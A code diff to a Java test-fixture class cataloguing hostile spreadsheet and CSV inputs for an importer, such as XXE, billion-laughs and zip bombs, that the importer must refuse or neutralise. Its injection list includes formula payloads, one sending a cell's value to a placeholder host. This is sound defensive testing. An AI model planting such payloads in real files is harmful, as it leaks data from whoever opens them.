@@ -42,24 +42,24 @@ import org.apache.poi.xssf.usermodel.XSSFWorkbook;
  * too large to commit (the 100 MB cell). Each case has its own cycle id, so that cases never
  * meet in the database.
  */
-final class HostileCorpus {
+public final class HostileCorpus {
 
-    static final Path COMMITTED = Path.of("src/test/resources/fixtures/hostile");
+    public static final Path COMMITTED = Path.of("src/test/resources/fixtures/hostile");
 
     /** What the importer must make of a file. */
-    sealed interface Expected {
+    public sealed interface Expected {
     }
 
     /** Loaded with no rejects; {@code warning} is a fragment of a warning it must give, or null. */
-    record Loaded(String warning) implements Expected {
+    public record Loaded(String warning) implements Expected {
     }
 
     /** Loaded, with exactly these rejects, each "Sheet row column CODE" (column '-' for the row). */
-    record Rejects(Set<String> rejects, String warning) implements Expected {
+    public record Rejects(Set<String> rejects, String warning) implements Expected {
     }
 
     /** Refused as a whole (exit 2) with a message holding this fragment; nothing loaded. */
-    record Refused(String fragment) implements Expected {
+    public record Refused(String fragment) implements Expected {
     }
 
     /**
@@ -69,7 +69,7 @@ final class HostileCorpus {
      * @param settings   system properties the case runs with (a limit lowered), or empty
      * @param committed  whether it lives in the repository; otherwise it is built at test time
      */
-    record Case(String file, String cycleId, String what, Expected expected, Map<String, String> settings, boolean committed) {
+    public record Case(String file, String cycleId, String what, Expected expected, Map<String, String> settings, boolean committed) {
         @Override
         public String toString() {
             return file;
@@ -77,11 +77,11 @@ final class HostileCorpus {
     }
 
     /** A formula cell: its expression, and the result saved with it (null: none saved). */
-    record Formula(String expression, Object cached) {
+    public record Formula(String expression, Object cached) {
     }
 
     /** The payloads of OWASP's CSV-injection page and their variants: each could start a formula. */
-    static final List<String> INJECTIONS = List.of(
+    public static final List<String> INJECTIONS = List.of(
             "=1+1",
             "=HYPERLINK(\"http://example.invalid/?leak=\"&A2,\"Open\")",
             "+1+1",
@@ -97,7 +97,7 @@ final class HostileCorpus {
 
     private static final long HUNDRED_MB = 100L * 1024 * 1024;
 
-    static List<Case> cases() {
+    public static List<Case> cases() {
         List<Case> cases = new ArrayList<>();
         // Workbooks that are attacks: refused before anything is read.
         cases.add(refused("xxe-in-sheet.xlsx", "HC01", "an external entity (file:///etc/passwd) in a sheet", "DOCTYPE"));
@@ -105,7 +105,7 @@ final class HostileCorpus {
         cases.add(refused("xxe-in-shared-strings.xlsx", "HC03", "an external entity in the shared strings", "DOCTYPE"));
         cases.add(refused("xxe-external-dtd.xlsx", "HC04", "an external DTD fetched by URL", "DOCTYPE"));
         cases.add(refused("billion-laughs.xlsx", "HC05", "nested entities expanding to a billion strings, in a sheet", "DOCTYPE"));
-        cases.add(refused("billion-laughs-in-content-types.xlsx", "HC06", "the same, in [Content_Types].xml", "cannot be read"));
+        cases.add(refused("billion-laughs-in-content-types.xlsx", "HC06", "the same, in [Content_Types].xml", "has a [Content_Types].xml part that cannot be read"));
         cases.add(refused("zip-bomb-rows.xlsx", "HC07", "a sheet expanding 1,000 times, past its header (found while the rows stream)", "zip bomb"));
         cases.add(refused("zip-bomb-shared-strings.xlsx", "HC08", "shared strings expanding 1,000 times (found before POI opens it)", "zip bomb"));
         cases.add(new Case("oversized-shared-strings.xlsx", "HC09", "a shared-strings table over the limit (lowered to 64 KiB here)",
@@ -160,7 +160,7 @@ final class HostileCorpus {
         cases.add(new Case("csv-nul-character", "HC38", "a NUL character in a component",
                 new Rejects(Set.of("Executives 2 component BAD_CHARACTER", "Elements 2 executive_id UNKNOWN_EXECUTIVE", "Pay 2 executive_id UNKNOWN_EXECUTIVE"),
                         null), Map.of(), true));
-        cases.add(refused("csv-unterminated-quote", "HC39", "a quote opened and never closed", "executives.csv cannot be read as CSV"));
+        cases.add(refused("csv-unterminated-quote", "HC39", "a quote opened and never closed", "executives.csv, line 3: a quoted value opens there and never closes"));
         cases.add(refused("csv-zip-bomb.zip", "HC40", "a zip of CSV files whose executives.csv expands 1,000 times", "executives.csv expands to more than 100 times"));
         cases.add(loaded("csv-formula-injection", "HC41", "formula-injection payloads in every text column, stored as text", null));
         return cases;
@@ -175,7 +175,7 @@ final class HostileCorpus {
     }
 
     /** Where a case's file is: committed, or built into {@code builtDir} (built on first use). */
-    static Path file(Case c, Path builtDir) throws IOException {
+    public static Path file(Case c, Path builtDir) throws IOException {
         if (c.committed()) {
             return COMMITTED.resolve(c.file());
         }
